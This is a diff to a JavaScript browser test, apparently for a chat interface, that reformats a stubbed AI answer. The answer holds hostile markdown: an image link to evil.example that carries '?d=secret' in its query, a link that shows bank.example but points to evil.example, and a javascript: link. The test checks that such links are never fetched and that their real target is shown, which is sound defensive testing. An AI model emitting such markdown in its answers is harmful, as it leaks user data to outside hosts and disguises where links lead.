@@ -275,7 +275,8 @@ test('a picture or a link that an answer names is never fetched, and shows where
   for (const { page } of [ada, bo]) page.on('request', note);
   answers.set('Show me the chart', {
     say: [
-      'Here: ![chart](https://evil.example/p.png?d=secret) and [https://bank.example](https://evil.example/x) and [run](javascript:alert(1))',
+      'Here: ![chart](https://evil.example/p.png?d=secret) and ' +
+        '[https://bank.example](https://evil.example/x) and [run](javascript:alert(1))',
     ],
   });
   await ada.write('Show me the chart');
